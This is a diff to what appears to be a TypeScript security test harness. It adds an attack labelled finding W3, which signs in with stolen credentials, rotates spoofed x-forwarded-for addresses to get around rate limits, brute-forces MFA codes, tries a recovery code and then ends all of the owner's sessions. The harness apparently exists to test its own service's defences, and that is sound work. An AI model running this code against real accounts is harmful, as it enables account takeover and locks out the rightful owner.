@@ -1,6 +1,7 @@
 import { connect, type Socket } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
-import { type Attack, ask, drip, flood, madeUp, postAs, type Target } from "./outsider.ts";
+import { stolen } from "./guarded-owner.ts";
+import { type Attack, ask, drip, flood, json, madeUp, postAs, type Target } from "./outsider.ts";
 
 const endless = (sign: string) => sign.repeat(60_000);
 
@@ -20,8 +21,32 @@ async function hold(target: Target, count: number, addresses: string[], isOver: 
   for (const socket of open) socket.destroy();
 }
 
-/** Attacks by someone who has a network, or patience. */
+/** One try of a thief with the password: sign in, guess, and end the sessions of the owner. */
+async function guess(target: Target, turn: number): Promise<number> {
+  const headers = { ...json(target), "x-forwarded-for": `203.0.113.${turn % 200}` };
+  const send = (path: string, body: object, token?: string) =>
+    fetch(`${target.url}/auth/v1/${path}`, {
+      method: "POST",
+      headers: { ...headers, ...(token && { authorization: `Bearer ${token}` }) },
+      body: JSON.stringify(body),
+    }).then(async (answer) => ({ status: answer.status, body: await answer.json().catch(() => ({})) }));
+  const { status, body } = await send("token?grant_type=password", stolen);
+  if (status !== 200) return status;
+  const [factor] = body.user.factors ?? [];
+  const begun = await send(`factors/${factor?.id}/challenge`, {}, body.access_token);
+  const challenge = { challenge_id: begun.body.id, code: String(100_000 + (turn % 900_000)) };
+  await send(`factors/${factor?.id}/verify`, challenge, body.access_token);
+  await send("factors/recovery-codes/verify", { code: "aaaa aaaa aaaa aaaa" }, body.access_token);
+  return (await send("logout?scope=global", {}, body.access_token)).status;
+}
+
+/** Attacks by someone who has a network, patience or a password. */
 export const networkAttacks: readonly Attack[] = [
+  {
+    finding: "W3",
+    does: "wrong codes by a thief who has the password of an owner",
+    run: (target, isOver) => flood(4, isOver, (turn) => guess(target, turn).catch(() => 0)),
+  },
   {
     finding: "W5",
     does: "enquiries from ever new /64 of one /48",
